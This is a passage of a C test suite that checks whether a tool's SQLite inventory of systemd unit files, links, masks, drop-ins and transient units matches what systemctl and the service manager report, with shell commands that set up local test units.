    systemd_shell("systemctl -q enable /run/elsewhere/far-other.service");
    systemd_shell("systemctl -q link /run/elsewhere/far-gone.service; rm "
                  "/run/elsewhere/far-gone.service");
    systemd_shell("systemd-run -q --unit=short.service sleep 1000");
    systemd_shell(
        "for d in generator generator.early generator.late; do mkdir -p /run/systemd/$d && "
        "cp /etc/systemd/system/plain.service /run/systemd/$d/by-$d.service && "
        "ln -s by-$d.service /run/systemd/$d/alias-$d.service; done");
    expect_agreement("systemctl", "scope = 'system'");
}
END_TEST

/* What default.target pulls in, as the manager has it: of services, targets and triggers that are
 * loaded the names, instances as their template. */
#define PULLED                                                                                     \
    "cd /tmp; echo default.target > s; cp s t; while [ -s t ]; do xargs -d '\\n' -a t systemctl "  \
    "show -p Wants -p Requires -p BindsTo -p Upholds --value -- | tr ' ' '\\n' | grep . | "        \
    "LC_ALL=C "                                                                                    \
    "sort -u | LC_ALL=C comm -23 - s > n; LC_ALL=C sort -u s n > u; mv u s; mv n t; done; "        \
    "xargs -d '\\n' -a s systemctl show -p Id -p LoadState --value -- | awk 'NF' | paste -d'|' - " \
    "- | "                                                                                         \
    "sed -n 's/|loaded$//p' | grep -E '[.](service|target|socket|timer|path)$' | grep -vxF "       \
    "\"$(systemctl show -p Id --value default.target)\" | sed 's/@.*[.]/@./' | LC_ALL=C sort -u"

START_TEST(what_starts_is_what_the_manager_pulls_in)
{
    ENTER();
    systemd_shell(
        "cd /etc/systemd/system; for n in a b c d e f g h i j k l; do printf "
        "'[Service]\\nExecStart=/bin/true\\n' > st-$n.service; done; mkdir -p "
        "/etc/systemd/system/{multi-user,timers,st-x}.target.wants multi-user.target.d "
        "multi-user.target.requires multi-.target.wants st-.service.wants; "
        "ln -s ../st-a.service multi-user.target.wants/; ln -s ../st-b.service "
        "multi-user.target.wants/.st-b.service; ln -s /dev/null "
        "multi-user.target.wants/st-c.service; "
        "printf '[Unit]\\nWants=st-d.service st-q.target st@1.service\\n' > "
        "multi-user.target.d/x.conf; ln -s ../st-e.service multi-user.target.requires/; "
        "ln -s ../st-f.service multi-.target.wants/; ln -s ../st-g.service st-.service.wants/; "
        "printf '[Unit]\\nRequires=st-h.service\\n' > st-q.target; ln -s ../st-i.service "
        "st-x.target.wants/; printf "
        "'[Service]\\nExecStart=/bin/true\\n[Unit]\\nBindsTo=st-%%i.socket\\n' "
        "> st@.service; printf '[Socket]\\nListenStream=/run/st\\nService=st-j.service\\n' > "
        "st-1.socket; ln -s /dev/null st-k2.service; ln -s st-l.service st-alias.service; printf "
        "'[Unit]\\nWants=st-alias.service st-k2.service\\n' > multi-user.target.d/y.conf; "
        "systemctl "
        "daemon-reload");
    char    *theirs = lines_of(PULLED);
    sqlite3 *db = harness_open();
    char *ours = harness_query(db, "SELECT name FROM unit_files WHERE scope = 'system' AND kind IN "
                                   "('unit', 'link') AND started_by IS NOT NULL AND (name GLOB "
                                   "'*.service' OR name GLOB '*.target' OR name GLOB '*.socket' OR "
                                   "name GLOB '*.timer' OR name GLOB '*.path') AND error IS NULL "
                                   "ORDER BY name");
    theirs[strlen(theirs) - 1] = '\0';
    ck_assert_str_eq(ours, theirs);
    ck_assert_ptr_nonnull(strstr(ours, "st-l.service"));
    harness_expect(
        db, "[\"multi-user.target\"]|[\"st-q.target\"]|NULL",
        "SELECT (SELECT started_by FROM unit_files WHERE name = 'st-d.service'), (SELECT "
        "started_by FROM unit_files WHERE name = 'st-h.service'), (SELECT started_by FROM "
        "unit_files WHERE name = 'st-j.service')");
    harness_expect(db, "AUTO_START|DEMAND_START",
                   "SELECT (SELECT start_type FROM services WHERE name = 'st-d.service'), (SELECT "
                   "start_type FROM services WHERE name = 'st-j.service')");
    free(ours);
    free(theirs);
    harness_close(db);
}
END_TEST

START_TEST(states_agree_on_links_made_by_hand)
{
    ENTER();
    write_units("/run/systemd/system");
    systemd_shell("cd /etc/systemd/system && mkdir -p x.target.wants y.target.requires "
                  "z.target.upholds && "
                  "ln -s ../still.service x.target.wants/hand.service && "
                  "ln -s /dev/null y.target.requires/more@hand.service && "
                  "ln -s ../still.service z.target.upholds/still.service && "
                  "ln -s loop2.service loop1.service && ln -s loop1.service loop2.service && "
                  "ln -s nowhere.service dangling.service && ln -s a.socket wrong.service && "
                  "ln -s plain.service byhand.service && ln -s byhand.service twofold.service && "
                  "ln -s more@.service inst@q.service && ln -s more@.service tmpl@.service && "
                  "ln -s /usr/lib/systemd/system/dbus.service same.service && "
                  "ln -s /tmp/not-there.service gone2.service && "
                  "mkdir -p still.service.d more@.service.d && "
                  "printf '[Install]\\nWantedBy=a.target\\n' > still.service.d/i.conf && "
                  "printf '[Install]\\nAlias=zz@.service\\n' > more@.service.d/i.conf");
    expect_agreement("systemctl", "scope = 'system'");
}
END_TEST

START_TEST(what_systemctl_and_similar_tools_leave_is_found)
{
    ENTER();
    systemd_shell("systemctl -q set-property systemd-journald.service CPUWeight=77");
    systemd_shell("systemd-run -q --unit=fleeting /bin/sleep 1234");
    systemd_shell("systemctl -q mask --runtime rsync-like.service 2>/dev/null");
    systemd_shell("mkdir -p /dev/shm/x && printf '[Service]\\nExecStart=/dev/shm/x/e\\n' > "
                  "/dev/shm/x/e.service && systemctl -q link /dev/shm/x/e.service");
    systemd_shell("systemd-run -q --on-calendar=minutely --unit=tick /bin/true");
    sqlite3 *db = harness_open();
    harness_expect(
        db,
        "/etc/systemd/system.control/systemd-journald.service.d/50-CPUWeight.conf|drop-in|"
        "systemd-journald.service|NULL|NULL|0\n"
        "/etc/systemd/system/e.service|link|e.service|linked|/dev/shm/x/e|1\n"
        "/run/systemd/system/rsync-like.service|mask|rsync-like.service|masked-runtime|NULL|0\n"
        "/run/systemd/transient/fleeting.service|unit|fleeting.service|transient|"
        "\"/bin/sleep\" \"1234\"|0\n"
        "/run/systemd/transient/tick.timer|unit|tick.timer|transient|NULL|0\n"
        "/var/lib/systemd/linger/tester|linger|NULL|enabled|NULL|0",
        "SELECT path, kind, unit, state, exec_start, coalesce(link_leaves, 0) FROM unit_files "
        "WHERE name IN ('50-CPUWeight.conf', 'fleeting.service', 'rsync-like.service', "
        "'e.service', 'tick.timer') OR kind = 'linger' ORDER BY path");
    harness_close(db);
}
END_TEST

#define AS_TESTER TESTER " systemctl --user "

START_TEST(states_of_a_users_units_agree)
{
    ENTER();
    write_units("/home/tester/.config/systemd/user");
    systemd_shell("chown -R 1234 /home/tester/.config; " AS_TESTER
                  "-q enable plain.service named.service");
    char *theirs =
        lines_of(AS_TESTER "list-unit-files --no-legend --no-pager --plain 'plain.service' "
                           "'n*.service' 'many@.service' 'also.service' | "
                           "awk '{print $1\"|\"$2}' | LC_ALL=C sort");
    theirs[strlen(theirs) - 1] = '\0';
    sqlite3 *db = harness_open();
    harness_expect(db, theirs,
                   "SELECT name, state FROM unit_files WHERE scope_user = 'tester' AND "
                   "kind IN ('unit', 'link', 'mask') AND (name IN ('plain.service', "
                   "'many@.service', 'also.service') OR name GLOB 'n*.service') "
                   "ORDER BY name || '|'");
    harness_close(db);
    free(theirs);
}
END_TEST

Suite *make_unit_files_suite(void)
{
    Suite *s = suite_create("unit_files");
    TCase *t = tcase_create("roots");

    tcase_set_timeout(t, 60);
    tcase_add_test(t, every_kind_of_file_in_a_unit_directory_is_shown);
    tcase_add_test(t, what_is_beside_the_unit_path_is_shown);
    tcase_add_test(t, scripts_and_generators_have_states);
    tcase_add_test(t, a_file_of_higher_rank_shadows_those_below);
    tcase_add_test(t, drop_ins_of_one_name_shadow_each_other);
    tcase_add_test(t, a_merged_usr_is_read_once);
    tcase_add_test(t, directories_of_the_running_manager_come_first);
    tcase_add_test(t, settings_in_force_include_every_drop_in);
    tcase_add_test(t, files_of_lines_show_them);
    tcase_add_test(t, hooks_and_runlevels_of_other_inits_are_shown);
    tcase_add_test(t, a_named_kind_is_all_there_is);
    tcase_add_test(t, a_root_without_units_is_absent);
    tcase_add_test(t, an_ordinary_user_sees_what_was_closed);
    tcase_add_test(t, each_user_has_directories_of_their_own);
    tcase_add_test(t, links_that_leave_or_dangle_are_shown);
    tcase_add_test(t, a_link_out_of_the_root_stays_inside);
    tcase_add_test(t, what_starts_a_unit_is_shown_without_the_vendors_folders);
    tcase_add_test(t, digests_are_of_what_a_link_leads_to);
    tcase_add_test(t, packages_are_found_under_both_names_of_a_merged_usr);
    tcase_add_test(t, packages_are_of_the_units_own_host);
    tcase_add_test(t, bad_files_have_a_row_and_an_error);
    tcase_add_test(t, a_directory_without_permission_is_counted);
    tcase_add_test(t, a_directory_that_breaks_off_is_damaged);
    tcase_add_test(t, a_users_link_to_anothers_file_is_denied_by_owner);
    tcase_add_test(t, ten_thousand_drop_ins_take_no_more_than_their_share);
    tcase_add_test(t, links_that_are_called_as_folders_are_not_lost);
    tcase_add_loop_test(t, the_version_of_systemd_decides, 0, 4);
    tcase_add_test(t, names_that_are_not_text_are_shown);
    suite_add_tcase(s, t);

    t = tcase_create("systemd");
    tcase_set_timeout(t, 60);
    tcase_add_unchecked_fixture(t, boot, halt);
    tcase_add_test(t, the_folders_are_those_of_systemd_analyze);
    tcase_add_test(t, states_agree_as_booted);
    tcase_add_test(t, states_agree_after_what_systemctl_does);
    tcase_add_test(t, what_starts_is_what_the_manager_pulls_in);
    tcase_add_test(t, states_agree_on_links_made_by_hand);
    tcase_add_test(t, states_of_a_users_units_agree);
    tcase_add_test(t, what_systemctl_and_similar_tools_leave_is_found);
    suite_add_tcase(s, t);
    return s;
}
